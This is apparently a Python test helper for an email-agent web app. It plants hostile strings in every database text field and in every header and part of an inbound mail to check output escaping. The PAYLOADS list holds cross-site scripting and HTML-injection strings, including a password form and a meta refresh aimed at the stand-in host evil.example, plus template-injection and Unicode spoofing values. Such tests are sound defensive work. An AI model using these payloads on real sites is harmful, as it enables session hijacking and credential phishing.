"""What a stranger may write, and an account that has it in every text that a page could show."""

from collections.abc import Mapping, Sequence
from typing import Any

from e2ad.storage.adaptation import Jsonb
from e2ad.storage.pool import Executor
from tests import factories
from tests.api.world import World

PAYLOADS = [
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "'><svg/onload=document.title='owned'>",
    "</title><script>document.title='owned'</script>",
    "</textarea><script>document.title='owned'</script>",
    "</pre></code><iframe srcdoc=\"<script>top.document.title='owned'</script>\">",
    "</option></select><iframe src=//evil.example>",
    "javascript:document.title='owned'//",
    "<!--<script>-->document.title='owned'",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>",
    "<svg><style><img src=x onerror=document.title='owned'></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title=1&gt;">',
    "<form action=//evil.example><input name=password><button formaction=//evil.example>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\">",
    "<link rel=stylesheet href=//evil.example/x.css><video poster=//evil.example/x><audio src=//evil.example/y>",
    '<a href="data:text/html,<script>opener.document.title=1</script>">x</a>',
    "' hx-get='//evil.example' hx-trigger='load' x='",
    '" hx-on:htmx:load="document.title=\'owned\'" autofocus onfocus="document.title=\'owned\'" x="',
    "<div data-copy='#x' hx-get=/dashboard/start hx-trigger=load hx-target=body>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "\u2028document.title='owned'\u2029\u202egpj.exe\u2066\u200b",
]
TEXTS: Mapping[str, Sequence[str]] = {
    "accounts": ["name"],
    "agents": ["name"],
    "api_keys": ["name"],
    "contacts": ["display_name"],
    "deliveries": ["last_error", "response_excerpt"],
    "holds": ["rejection_reason"],
    "messages": [
        "subject",
        "sender_name",
        "header_from",
        "envelope_from",
        "body_text",
        "new_text",
        "body_html",
        "automation",
        "helo",
        "flag_reason",
        "continuity_detail",
        "resembles",
        "message_id",
    ],
    "oauth_clients": ["name"],
    "recipients": ["detail"],
    "sessions": ["browser", "network"],
    "signing_secrets": ["name"],
    "submissions": ["detail"],
    "suppressions": ["reason"],
    "templates": ["name", "subject", "body_text"],
    "webhooks": ["description", "auto_disabled_reason"],
}
"""Texts that somebody else or a person wrote, by table."""


def _jsons(text: str) -> Mapping[str, Mapping[str, Any]]:
    checks = {
        "spf": {"status": "fail", "domain": text, "aligned": False, "detail": text},
        "dkim": [{"status": "pass", "domain": text, "selector": text, "aligned": True, "detail": text}] * 3,
        "dmarc": {"status": "fail", "domain": text, "policy": "reject", "aligned_by": [], "detail": text},
        "arc": {"status": "pass", "domain": text, "detail": text},
    }
    file = {"index": 0, "filename": text, "content_type": text, "size_bytes": 3, "disposition": "attachment"}
    found = [{"source": "scan", "action": "review", "detector": text, "summary": text, "address": text, "score": 0.9}]
    return {
        "messages": {
            "to_addresses": [text],
            "cc_addresses": [text],
            "bcc_addresses": [text],
            "reply_to_addresses": [text],
            "attachments": [file],
            "authentication": checks,
        },
        "holds": {"reason": {"type": "gate", "code": "sender", "summary": text}, "findings": found},
        "contacts": {"metadata": {text[:20]: text}},
        "domains": {"seen": {text: [text]}},
    }


def everywhere(text: str) -> str:
    """A mail with the text in each of its fields and headers."""
    header = text.encode("utf-8", "replace").decode()
    quoted = header.replace("\\", "").replace('"', "'")
    return "\r\n".join(
        [
            f'From: "{quoted}" <"{quoted}"@example.org>',
            f'To: "{quoted}" <bot@agents.localhost>',
            f'Cc: "{quoted}" <c@example.org>',
            f'Reply-To: "{quoted}" <r@example.org>',
            f"Subject: {header}",
            f"Message-ID: <{quoted}@example.org>",
            f"List-Id: {header}",
            f"List-Unsubscribe: <{header}>",
            f"X-Mailer: {header}",
            f"Authentication-Results: {header}",
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=cut",
            "",
            "--cut",
            "Content-Type: text/plain; charset=utf-8",
            "",
            f"Good morning. {text}",
            "--cut",
            "Content-Type: text/html; charset=utf-8",
            "",
            f"<p>Good morning.</p>{text}<p title='{text}'>{text}</p>",
            "--cut",
            f'Content-Type: "text/{quoted}"',
            f'Content-Disposition: attachment; filename="{quoted}"',
            "",
            "1,2",
            "--cut--",
            "",
        ]
    )


async def poison(database: Executor, world: World, text: str) -> None:
    """Put a text into everything that the account has."""
    for table, columns in TEXTS.items():
        for column in columns:
            await database.execute(f"update {table} set {column} = %(text)s", {"text": text}, prepare=False)
    for table, values in _jsons(text).items():
        for column, value in values.items():
            await database.execute(f"update {table} set {column} = %(v)s", {"v": Jsonb(value)}, prepare=False)
    await database.execute("update messages set labels = %(labels)s", {"labels": [text]}, prepare=False)
    await database.execute("update messages set continuity = 'break' where direction = 'inbound'", {}, prepare=False)


async def hostile_mail(database: Executor, world: World, agent: str, text: str, number: int) -> str:
    """A mail of this kind in the inbox; its id."""
    raw = everywhere(text).encode("utf-8", "replace")
    return await factories.message(database, world.account_id, agent, raw=raw, number=number)
